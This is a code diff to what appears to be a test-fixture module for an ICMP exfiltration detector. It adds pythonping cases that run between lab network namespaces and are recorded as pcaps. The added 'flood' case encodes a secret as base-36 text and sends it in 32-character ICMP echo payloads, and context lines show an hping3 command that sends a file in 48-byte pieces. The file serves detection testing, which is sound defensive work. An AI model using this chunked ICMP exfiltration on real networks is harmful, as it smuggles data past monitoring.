@@ -1,6 +1,6 @@
 """Real ICMP tunnel and exfiltration tools, run between two network namespaces and recorded.
 
-Each case function runs one real tool (the Debian package; icmplib from PyPI) from the
+Each case function runs one real tool (the Debian package; icmplib and pythonping from PyPI) from the
 *inside* host (netlab's peer, 10.231.0.2) towards the *outside* host (netlab's sensor host,
 10.231.0.1), records everything that crossed the veth pair with tcpdump on the outside
 end, and returns the pcap's path (`WORKDIR/<case>.pcap`). The data always leaves from the
@@ -28,6 +28,10 @@ Cases (`LIVE_CASES`):
 * icmplib-flood     the same layout at exfiltration volume: icmplib.ping(outside, count=50,
                     interval=0.01) 8 times back to back (400 requests in about 5 s, every one with
                     icmplib's exact layout, seq < 64).
+* pythonping-monitor  BENIGN: pythonping's ping(host, count=4, size=32, timeout=1) to each of 4 addresses of
+                    the outside host, a round every 5 s for 6 rounds (its own random text, drawn per call).
+* pythonping-flood  the same layout at exfiltration volume: ping(outside, count=1, payload=CHUNK) 150 times
+                    back to back, each CHUNK the next 32 characters of the secret as base-36 text.
 * hping3-rand-dest  `hping3 --icmp --rand-dest 10.77.x.x -I IF -d 48 -E FILE -c 200 -i u20000`: a
                     file in 48-byte pieces, each to a random address of 10.77.0.0/16 (routed from the
                     inside host to the outside host, where a blackhole route drops them).
@@ -146,6 +150,47 @@ for r in range(rounds):
 print("sent", sent, "received", received, flush=True)
 raise SystemExit(0 if sent == received == rounds * kw["count"] * len(hosts) else 1)
 """
+
+
+# pythonping (PyPI; alessandromaggio/pythonping): ping() draws `size` characters of A-Z0-9 once per call and
+# sends them in each of its `count` requests, a random identifier per call, seq from 1. Monitoring: size 32
+# (past icmpsensor's small-secret threshold in 6 calls if its layout were not recognised); the flood gives the
+# payload itself (pythonping's `payload=`), 32 characters of base-36 text a call.
+PYTHONPING_MONITOR = ("monitor", 6, 5.0, 4, 32)  # (mode, rounds, seconds between rounds, count, size)
+PYTHONPING_FLOOD = ("flood", 150, 0.0, 1, 32)
+_PYTHONPING = r"""
+import sys, time
+from pythonping import ping
+mode, rounds, every, count, size, hosts = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), \
+    int(sys.argv[5]), sys.argv[7:]
+number, text = int.from_bytes(sys.argv[6].encode(), "big"), ""
+while number:
+    number, digit = divmod(number, 36)
+    text += "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"[digit]
+start, sent, received = time.monotonic(), 0, 0
+for r in range(rounds):
+    time.sleep(max(0.0, start + r * every - time.monotonic()))
+    for host in hosts:
+        chunk = (text * (1 + size * rounds // len(text)))[r * size : (r + 1) * size].encode()
+        result = ping(host, count=count, size=size, timeout=1, payload=chunk if mode == "flood" else None)
+        sent += count
+        received += sum(1 for response in result if response.success)
+print("sent", sent, "received", received, flush=True)
+raise SystemExit(0 if sent == received == rounds * count * len(hosts) else 1)
+"""
+
+
+def _pythonping_argv(spec: tuple[str, int, float, int, int], hosts: list[str]) -> list[str]:
+    return [sys.executable, "-c", _PYTHONPING, *(str(v) for v in spec), SECRET_STRING, *hosts]
+
+
+def _pythonping_text(spec: tuple[str, int, float, int, int], hosts: list[str]) -> str:
+    mode, rounds, every, count, size = spec
+    if mode == "flood":
+        return (f"{rounds} x pythonping.ping({hosts[0]!r}, count={count}, size={size}, timeout=1, payload=CHUNK) "
+                f"back to back, CHUNK the next {size} characters of the secret as base-36 text")
+    return (f"a round every {every:g} s, {rounds} rounds, pythonping.ping(host, count={count}, size={size}, "
+            f"timeout=1) for host in {', '.join(hosts)}")
 
 
 def _icmplib_argv(spec: tuple[str, int, float, int, float], hosts: list[str]) -> list[str]:
@@ -515,6 +560,21 @@ def icmplib_flood(workdir: Path, lab: Lab | None = None) -> Path:
     return _one_sender(workdir, "icmplib-flood", _icmplib_argv(ICMPLIB_FLOOD, [OUTSIDE]), 30, lab)
 
 
+def pythonping_monitor(workdir: Path, lab: Lab | None = None) -> Path:
+    """BENIGN: pythonping ping(host, count=4, size=32) to 4 hosts, a round every 5 s for about 30 s."""
+    workdir.mkdir(parents=True, exist_ok=True)
+    limit = PYTHONPING_MONITOR[1] * PYTHONPING_MONITOR[2] + 15
+    with _lab(lab) as lab_, _ip_added(lab_, ICMPLIB_ADDRS):
+        return _one_sender(workdir, "pythonping-monitor", _pythonping_argv(PYTHONPING_MONITOR, ICMPLIB_HOSTS),
+                           limit, lab_)
+
+
+def pythonping_flood(workdir: Path, lab: Lab | None = None) -> Path:
+    """pythonping's layout at exfiltration volume: 150 calls back to back, the secret as base-36 text."""
+    workdir.mkdir(parents=True, exist_ok=True)
+    return _one_sender(workdir, "pythonping-flood", _pythonping_argv(PYTHONPING_FLOOD, [OUTSIDE]), 40, lab)
+
+
 def nping_data(workdir: Path, lab: Lab | None = None) -> Path:
     """nping: 20 echo requests carrying the same secret string, 100 ms apart."""
     workdir.mkdir(parents=True, exist_ok=True)
@@ -534,6 +594,8 @@ LIVE_CASES: dict[str, Callable[[Path], Path]] = {
     "nping-ident-seq": nping_ident_seq,
     "icmplib-monitor": icmplib_monitor,
     "icmplib-flood": icmplib_flood,
+    "pythonping-monitor": pythonping_monitor,
+    "pythonping-flood": pythonping_flood,
     "hping3-rand-dest": hping3_rand_dest,
 }
 
@@ -541,6 +603,7 @@ LIVE_CASES: dict[str, Callable[[Path], Path]] = {
 LIVE_EXPECTED: dict[str, tuple[str, str] | None] = {
     **{case: (INSIDE, OUTSIDE) for case in LIVE_CASES},
     "icmplib-monitor": None,
+    "pythonping-monitor": None,
     "hping3-rand-dest": (INSIDE, "*"),
 }
 
@@ -562,9 +625,11 @@ _TOOLS: dict[str, tuple[str, tuple[str, ...]]] = {
     "nping-ident-seq": ("nmap", ("nping", "sh")),
     "icmplib-monitor": ("icmplib", ()),
     "icmplib-flood": ("icmplib", ()),
+    "pythonping-monitor": ("pythonping", ()),
+    "pythonping-flood": ("pythonping", ()),
     "hping3-rand-dest": ("hping3", ("hping3",)),
 }
-_PYPI = frozenset({"icmplib"})  # packages from PyPI (the `test` extra), the rest from Debian
+_PYPI = frozenset({"icmplib", "pythonping"})  # packages from PyPI (the `test` extra), the rest from Debian
 
 
 def _package_version(package: str) -> str:
@@ -600,11 +665,14 @@ _COMMANDS: dict[str, str] = {
     "nping-ident-seq": NPING_IDENT_SEQ.format(words="<200 x id:seq, 4 secret bytes each>"),
     "icmplib-monitor": f"{_ip_text(ICMPLIB_ADDRS)}; inside: {_icmplib_text(ICMPLIB_MONITOR, ICMPLIB_HOSTS)}",
     "icmplib-flood": _icmplib_text(ICMPLIB_FLOOD, [OUTSIDE]),
+    "pythonping-monitor": f"{_ip_text(ICMPLIB_ADDRS)}; inside: {_pythonping_text(PYTHONPING_MONITOR, ICMPLIB_HOSTS)}",
+    "pythonping-flood": _pythonping_text(PYTHONPING_FLOOD, [OUTSIDE]),
     "hping3-rand-dest": f"{_ip_text(SPREAD_ROUTES)}; inside: {_cmd(_fmt(HPING_RAND_DEST, file='secret.txt'))}",
 }
 
 _TO: dict[str, str] = {  # where the packets went, where it is not the outside host's one address
     "icmplib-monitor": f"outside {', '.join(ICMPLIB_HOSTS)}",
+    "pythonping-monitor": f"outside {', '.join(ICMPLIB_HOSTS)}",
     "hping3-rand-dest": f"random addresses of {SPREAD_NET} (routed to outside {OUTSIDE}, blackholed there)",
 }
 
